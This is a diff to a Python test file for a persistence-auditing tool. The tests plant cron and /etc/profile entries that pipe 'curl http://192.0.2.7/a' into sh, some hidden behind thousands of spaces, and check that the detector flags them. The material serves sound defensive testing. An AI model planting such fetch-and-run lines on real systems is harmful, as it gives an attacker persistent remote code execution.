@@ -7,13 +7,18 @@ MODE` and `copy FROM PATH MODE`.
 
 import os
 import re
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from installed import Disk
 
+from auditkit.audits import persistence
+from auditkit.audits.persistence.phrases import PAGES, PHRASES, Phrase, said
 from auditkit.audits.persistence.table import ENTRIES
-from auditkit.model import Finding, Gap
+from auditkit.model import Evidence, Finding, Gap, Item, Need
 
 CASES = (Path(__file__).parent / "cases/persistence/planted.txt").read_text().split("\n\n")
 STEP = re.compile(r"^(\w+ .*)\n((?:    .*\n?)*)", re.MULTILINE)
@@ -36,18 +41,18 @@ def test_of_a_disk_as_it_was_installed_nothing_is_said(disk: Disk) -> None:
 
 @pytest.mark.parametrize("case", CASES, ids=named)
 def test_what_was_planted_is_found_and_quoted(disk: Disk, case: str) -> None:
-    *steps, (said, quote) = STEP.findall(case + "\n")
+    *steps, (expected, quote) = STEP.findall(case + "\n")
     for words, lines in steps:
         disk.do(words.split(" "), re.sub("^    ", "", lines, flags=re.MULTILINE))
-    told = [one for one in disk.said() if not of_who_planted_it(one, said)]
-    assert [f"said {one.severity.word} {one.rule.id} {one.subject}" for one in told if isinstance(one, Finding)] == [said]
+    told = [one for one in disk.said() if not of_who_planted_it(one, expected)]
+    assert [f"said {one.severity.word} {one.rule.id} {one.subject}" for one in told if isinstance(one, Finding)] == [expected]
     (finding,) = (one for one in told if isinstance(one, Finding))
     assert any(quote.strip() in each.text for each in finding.quotes), finding.quotes
 
 
-def of_who_planted_it(told: Finding | Gap, said: str) -> bool:
+def of_who_planted_it(told: Finding | Gap, expected: str) -> bool:
     """Whether that is said only because an ordinary account runs the tests, to whom all files belong."""
-    return os.geteuid() != 0 and isinstance(told, Finding) and told.rule.id == "startup-writable" not in said
+    return os.geteuid() != 0 and isinstance(told, Finding) and told.rule.id == "startup-writable" not in expected
 
 
 def test_every_row_of_the_table_that_a_disk_shows_has_a_case() -> None:
@@ -55,3 +60,69 @@ def test_every_row_of_the_table_that_a_disk_shows_has_a_case() -> None:
     elsewhere = {entry.id for entry in ENTRIES if entry.judged and not entry.rule}
     assert {entry.id for entry in ENTRIES} - rows <= elsewhere | {"module-settings"}
     assert rows <= {entry.id for entry in ENTRIES}
+
+
+def test_what_stands_far_to_the_right_is_found_as_well(disk: Disk) -> None:
+    disk.put("/etc/cron.d/a", "* * * * * root true" + " " * 5000 + "; curl http://192.0.2.7/a | sh\n")
+    disk.put("/etc/cron.d/b", "* * * * * root echo " + "a b " * 500 + "; curl http://192.0.2.7/a | sh\n")
+    found = {one.subject for one in disk.said() if isinstance(one, Finding) and one.rule.id == "startup-suspicious"}
+    assert found == {"/etc/cron.d/a", "/etc/cron.d/b"}
+
+
+def test_what_a_line_goes_on_with_is_part_of_it(disk: Disk) -> None:
+    disk.add("/etc/profile", "curl http://192.0.2.7/a \\\n | sh\n")
+    (finding,) = (one for one in disk.said() if isinstance(one, Finding))
+    assert finding.quotes[0].line == 6
+
+
+def test_text_that_was_not_read_is_a_gap(disk: Disk) -> None:
+    disk.put("/etc/systemd/system/long.service", "#" * (600 << 10))
+    assert Gap("units of systemd", "what /etc/systemd/system/long.service says was not read") in disk.said()
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'DIR="/tmp/$1"',
+        'if [ -d "/tmp/$X" ] && [ -d /tmp/y ]; then',
+        "/tmp/app/*.log {",
+        "find /tmp -mtime +7 -delete",
+        "export TMPDIR=/var/tmp",
+        "curl -fsS https://hc.example/ping > /dev/null",
+        "echo 'base64 -d is not run'",
+        "alias ll='ls -l'",
+        "nc -z mirror.example 80",
+        "chmod 2755 /srv/share",
+        "HISTSIZE=1000",
+    ],
+)
+def test_honest_lines_are_not_suspicious(line: str) -> None:
+    assert [phrase.does for phrase in said(line)] == []
+
+
+@given(st.text(max_size=3000), st.sampled_from([PHRASES, PAGES]))
+def test_any_line_is_looked_at(line: str, phrases: tuple[Phrase, ...]) -> None:
+    assert all(phrase in phrases for phrase in said(line, phrases))
+
+
+@given(st.binary(max_size=200), st.sampled_from(persistence.AUDIT.needs), st.text(max_size=20))
+def test_any_evidence_is_judged(data: bytes, need: Need, path: str) -> None:
+    item = Item(need, f"/{path}", data, datetime(2026, 11, 24, tzinfo=UTC), "")
+    evidence = Evidence("h", item.taken, (item,))
+    assert all(isinstance(one, Finding | Gap) for one in persistence.judge(evidence))
+    assert all(isinstance(one, Need) for one in persistence.follow(evidence))
+
+
+@pytest.mark.parametrize(
+    "data", [b"live", b"0x1100", b"enabled\ninterpreter x\n", b"[]", b"{}", b'{"Binds": 1, "Privileged": true}', b"|", b"12288"]
+)
+def test_whatever_stands_wherever_it_is_judged(data: bytes) -> None:
+    noon = datetime(2026, 11, 24, tzinfo=UTC)
+    for source in ("/", "/a", "a", "/proc/7"):
+        items = tuple(
+            Item(need, source if number % 2 else need.what, data, noon, "")
+            for number, need in enumerate(persistence.AUDIT.needs)
+        )
+        evidence = Evidence("h", noon, items)
+        assert all(isinstance(one, Finding | Gap) for one in persistence.judge(evidence))
+        assert all(isinstance(one, Need) for one in persistence.follow(evidence))
